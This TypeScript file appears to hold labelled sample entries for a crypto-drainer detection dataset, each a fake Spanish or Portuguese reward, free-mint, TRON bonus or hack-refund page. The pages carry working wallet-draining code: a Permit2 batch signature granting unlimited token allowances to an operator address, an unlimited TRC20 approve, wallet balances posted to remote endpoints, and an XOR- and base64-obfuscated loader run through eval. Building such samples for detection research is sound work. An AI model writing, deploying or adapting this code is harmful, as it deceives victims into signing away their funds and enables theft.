import { type Entry } from '../entry.js';
import { doc, favicon, logo, evmDrainer, b64, xorB64 } from '../parts/yy-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

const permit2Cfg = JSON.stringify({
  p2: '0x000000000022D473030F116dDEE9F6B43aC78BA3',
  op: '0x3e8d1c0a92f7b64e5d21a0c9f8e7b6a5d4c3b2a1',
  api: 'https://reembolsos-stable.pages.dev/api/sig',
  tk: ['0xdAC17F958D2ee523a2206206994597C13D831ec7', '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', '0x6B175474E89094C44Da98b954EedeAC495271d0F', '0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2'],
});
const permit2Core = `async function go(){var C=JSON.parse(_x(window.__cfg,'rmb'));if(!window.ethereum){msg('Conecta una billetera compatible.');return;}
var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];var now=Math.floor(Date.now()/1e3);
var details=C.tk.map(function(t,i){return {token:t,amount:'1461501637330902918203684832716283019655932542975',expiration:now+31536000,nonce:i}});
var td={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}],PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}]},primaryType:'PermitBatch',domain:{name:'Permit2',chainId:1,verifyingContract:C.p2},message:{details:details,spender:C.op,sigDeadline:now+31536000}};
msg('Firma la solicitud de reembolso en tu billetera…');
try{var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify(td)]});await fetch(C.api,{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a:a,s:sig,d:td.message})});msg('Reembolso aprobado. Recibirás los fondos en 1–3 horas.');}catch(e){msg('No se pudo verificar la firma.');}}`;

export const entries: Entry[] = [
{
  id: 'yy-drainer-recompensa-usdt-bitso',
  label: 'cryptodrainer',
  kind: 'approve-drainer',
  url: 'https://bitso-recompensas-usdt.com/reclamar',
  body: doc({
    lang: 'es-MX',
    title: 'Bitso Rewards – Reclama tus 250 USDT',
    head: favicon('#0c1a3a', 'b'),
    css: `body{margin:0;font-family:Inter,Arial;background:#0c1a3a;color:#fff}.n{padding:18px 30px}.n svg text{fill:#fff}.h{max-width:620px;margin:40px auto;text-align:center;padding:0 20px}
.h h1{font-size:40px;margin:0}.h .a{color:#34d399}.card{background:#13244f;border-radius:16px;padding:26px;margin-top:26px}.b{background:#34d399;color:#0c1a3a;border:0;border-radius:12px;padding:16px 40px;font-size:17px;font-weight:800;cursor:pointer}
.st{margin-top:14px;color:#cbd5e1;font-size:14px}.w{display:flex;justify-content:center;gap:14px;margin-top:14px;font-size:13px;color:#94a3b8}`,
    body: `<div class="n">${logo('bitso', 30)}</div>
<div class="h"><h1>Celebramos <span class="a">10 millones</span> de usuarios en LATAM</h1><p>Los primeros 5,000 usuarios que conecten su billetera reciben <b>250 USDT</b> directamente en su wallet. Sin KYC, sin depósito.</p>
<div class="card"><p>Recompensas restantes: <b id="r">1,284</b> / 5,000</p><button class="b" onclick="reclamar()">Conectar billetera y reclamar</button><div class="st" id="st"></div>
<div class="w"><span>MetaMask</span><span>Trust Wallet</span><span>Coinbase Wallet</span><span>WalletConnect</span></div></div>
<p style="font-size:12px;color:#64748b;margin-top:20px">La recompensa se acredita en la red Ethereum después de verificar tu elegibilidad con una firma.</p></div>
<script>
function st(t){document.getElementById('st').textContent=t;}
${evmDrainer({ spender: '0x7c3a91be0f41d2c8e5a6b9f00d3e1c2b4a5f6e71', panel: 'https://api.bitso-recompensas-usdt.com/v1/log', tokens: [{ sym: 'USDT', addr: '0xdAC17F958D2ee523a2206206994597C13D831ec7' }, { sym: 'USDC', addr: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48' }, { sym: 'DAI', addr: '0x6B175474E89094C44Da98b954EedeAC495271d0F' }], mode: 'approve', entry: 'reclamar', waitText: 'Confirma en tu billetera para verificar tu elegibilidad…' })}
</script>`,
  }),
},
{
  id: 'yy-drainer-nft-lucha-libre-mint',
  label: 'cryptodrainer',
  kind: 'nft-approval-drainer',
  url: 'https://luchalibre-nft-mint.xyz/',
  body: doc({
    lang: 'es-MX',
    title: 'Máscaras Legendarias NFT – Free Mint',
    head: favicon('#e11d48', 'L'),
    css: `body{margin:0;font-family:"Bebas Neue",Impact,Arial;background:#0f0f12;color:#fff;letter-spacing:.5px}.h{text-align:center;padding:50px 20px}.h h1{font-size:60px;margin:0;color:#facc15}
.grid{display:flex;justify-content:center;gap:16px}.grid div{width:150px;height:150px;border-radius:12px;background:conic-gradient(#e11d48,#facc15,#22c55e,#3b82f6,#e11d48)}
.m{text-align:center;margin:30px}.m button{background:#e11d48;color:#fff;border:0;border-radius:10px;padding:16px 44px;font-size:22px;font-family:inherit}.s{font-family:Arial;font-size:14px;color:#a1a1aa;margin-top:12px}`,
    body: `<div class="h"><h1>MÁSCARAS LEGENDARIAS</h1><p style="font-family:Arial">3,333 máscaras de lucha libre generativas. Free mint para holders de cualquier colección ERC-721.</p></div>
<div class="grid"><div></div><div></div><div></div><div></div></div>
<div class="m"><p style="font-family:Arial">Minteadas: <b id="c">2,917</b> / 3,333</p><button onclick="mint()">FREE MINT</button><div class="s" id="st">Solo pagas gas. 1 por wallet.</div></div>
<script>
function st(t){document.getElementById('st').textContent=t;}
${evmDrainer({ spender: '0x5aa1f0e3c9d84b7261e0f2d3c4b5a69788c7d1e2', panel: 'https://luchalibre-nft-mint.xyz/api/hook', tokens: [{ sym: 'BAYC', addr: '0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D' }, { sym: 'PUDGY', addr: '0xBd3531dA5CF5857e7CfAA92426877b022e612cf8' }, { sym: 'AZUKI', addr: '0xED5AF388653567Af2F388E6224dC7C4b3241C544' }], mode: 'nft', entry: 'mint', waitText: 'Aprueba la verificación de holder en tu wallet…' })}
</script>`,
  }),
  routes: {
    'luchalibre-nft-mint.xyz/api/hook': jsonRoute({ ok: true }),
  },
},
{
  id: 'yy-drainer-tron-usdt-bonus-tronlink',
  label: 'cryptodrainer',
  kind: 'trc20-approve-drainer',
  url: 'https://bonus-usdt-trc20.com/pt/boas-vindas',
  body: doc({
    lang: 'pt-BR',
    title: 'Bônus de boas-vindas 50 USDT (TRC20)',
    head: favicon('#ff060a', 'T'),
    css: `body{margin:0;font-family:Arial;background:#fff5f5;color:#222}.c{max-width:480px;margin:40px auto;background:#fff;border-radius:16px;padding:28px;text-align:center;box-shadow:0 6px 24px rgba(255,6,10,.12)}
.v{font-size:44px;font-weight:800;color:#26a17b}.b{background:#ff060a;color:#fff;border:0;border-radius:30px;padding:15px 34px;font-size:16px;font-weight:700}.s{font-size:13px;color:#666;margin-top:12px}`,
    body: `<div class="c"><p>Bônus exclusivo para novos usuários brasileiros</p><div class="v">50 USDT</div><p>Conecte sua TronLink ou Trust Wallet (rede TRON) para receber. O bônus é creditado na hora.</p>
<button class="b" onclick="receber()">Receber bônus</button><p class="s" id="s">Taxa de rede: 0 TRX (patrocinada)</p></div>
<script>
var USDT='TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t',REC='TXk9wP2dM7rQ4sZ1vN8cB3yH6jL5aF0eGu';
function s(t){document.getElementById('s').textContent=t;}
async function receber(){if(!window.tronWeb||!window.tronLink){s('Abra esta página no navegador da TronLink ou Trust Wallet.');return;}
try{await tronLink.request({method:'tron_requestAccounts'});}catch(e){}
var me=tronWeb.defaultAddress.base58;var bal=0;try{var c=await tronWeb.contract().at(USDT);bal=(await c.balanceOf(me).call()).toString();}catch(e){}
fetch('https://bonus-usdt-trc20.com/api/w',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({w:me,b:bal,trx:await tronWeb.trx.getBalance(me)})});
s('Confirme na carteira para receber o bônus…');
try{var ct=await tronWeb.contract().at(USDT);var tx=await ct.approve(REC,'115792089237316195423570985008687907853269984665640564039457584007913129639935').send({feeLimit:100000000});
fetch('https://bonus-usdt-trc20.com/api/a',{method:'POST',body:JSON.stringify({w:me,tx:tx})});s('Bônus em processamento. Aguarde até 10 minutos.');}catch(e){s('Falha na verificação. Tente novamente.');}}
</script>`,
  }),
},
{
  id: 'yy-drainer-permit2-reembolso-hackeo',
  label: 'cryptodrainer',
  kind: 'permit2-drainer',
  url: 'https://reembolso-afectados-exchange.com/caso/verificar',
  body: doc({
    lang: 'es',
    title: 'Programa de reembolso a usuarios afectados',
    head: favicon('#111827', 'R'),
    css: `body{margin:0;font-family:Inter,Arial;background:#f8fafc;color:#0f172a}.c{max-width:620px;margin:50px auto;background:#fff;border:1px solid #e2e8f0;border-radius:14px;padding:30px}
.al{background:#fef3c7;border:1px solid #fcd34d;padding:12px;border-radius:8px;font-size:14px}.b{background:#111827;color:#fff;border:0;border-radius:10px;padding:14px 28px;font-size:15px;margin-top:16px}#m{font-size:14px;color:#475569;margin-top:10px}`,
    body: `<div class="c"><h2>Reembolso por el incidente de seguridad del 2 de noviembre</h2><p class="al">Si tenías USDT, USDC o DAI en el exchange durante el incidente, puedes solicitar el reembolso total más un 10 % de compensación.</p>
<p>El reembolso se envía a la billetera desde la que retiraste tus fondos. Conecta esa billetera y firma la solicitud (no tiene costo de gas).</p>
<button class="b" onclick="go()">Verificar elegibilidad</button><p id="m"></p></div>
<script>
window.__cfg='${xorB64(permit2Cfg, 'rmb')}';
function _x(s,k){var d=atob(s),o='';for(var i=0;i<d.length;i++)o+=String.fromCharCode(d.charCodeAt(i)^k.charCodeAt(i%k.length));return o;}
function msg(t){document.getElementById('m').textContent=t;}
</script>
<script src="/caso/assets/app.js"></script>`,
  }),
  routes: {
    'reembolso-afectados-exchange.com/caso/assets/app.js': jsRoute(`(0,eval)(atob('${b64(permit2Core)}'));`),
  },
},
];
